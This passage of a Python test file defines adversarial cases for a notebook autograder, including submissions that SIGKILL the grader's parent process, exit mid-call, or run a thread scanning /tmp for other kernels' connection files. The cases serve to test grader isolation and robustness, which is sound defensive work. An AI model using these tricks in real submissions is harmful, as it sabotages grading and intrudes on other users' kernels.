        c8_comm_without_model_module,
    ),
    _case(
        "c8-kill-grader-parent",
        8,
        "sgd_step SIGKILLs the kernel's parent process",
        c8_kill_grader_parent,
    ),
    _case(
        "c8-grader-failure-not-cached",
        8,
        "first run with a broken kernelspec (grader-side failure), second run must regrade",
        c8_grader_failure_not_cached,
    ),
    _case(
        "c8-same-name-as-honest",
        8,
        "a wrong notebook with the same file name as the honest ones",
        c8_same_name_as_honest,
    ),
    _case(
        "c8-recursive-return-values",
        8,
        "self-containing list/dict, ndarray subclass that refuses conversion, 400 MB array",
        c8_recursive_return_values,
    ),
    _case(
        "c8-kernel-exits-in-graded-call",
        8,
        "softmax calls os._exit(0) in the grader's call",
        c8_kernel_exits_in_graded_call,
    ),
]


def c4_long_tmpdir(folder, solution, cid):
    """An honest notebook; the grader runs with a TMPDIR of about 150 characters."""
    sub = write(_copy(solution), folder / "subs" / "plain.ipynb")
    return {
        "submissions": [sub],
        "out_plants": None,
        "expect": {
            "grader_env": {"TMPDIR": "{folder}/" + "t" * 60 + "/" + "u" * 40},
            "rows_full": ["plain.ipynb"],
        },
    }


def c4_tmpdir_world_writable_shared(folder, solution, cid):
    """TMPDIR=/tmp itself (shared by everyone): kernels must still not see each other."""
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "import numpy as np",
        _join(
            KERNEL_DISCOVERY,
            """
    def _hc_scan_tmp():
        while _hc_time.time() < _HC_T0 + 100:
            for path, info in _hc_foreign_connections(["/tmp"]):
                _hc_leak("foreign connection file with TMPDIR=/tmp: " + path)
            _hc_time.sleep(1)
    _hc_threading.Thread(target=_hc_scan_tmp, daemon=True).start()
    """,
        ),
    )
    return one(folder, nb, {"exercises_pass": EX, "grader_env": {"TMPDIR": "/tmp"}})


CASES += [
    _case(
        "c4-long-tmpdir",
        4,
        "honest class graded with a 150-character TMPDIR (Unix socket path limit)",
        c4_long_tmpdir,
    ),
    _case(
        "c4-tmpdir-is-shared-tmp",
        4,
        "grader run with TMPDIR=/tmp; kernel scans /tmp for other kernels",
        c4_tmpdir_world_writable_shared,
    ),
]
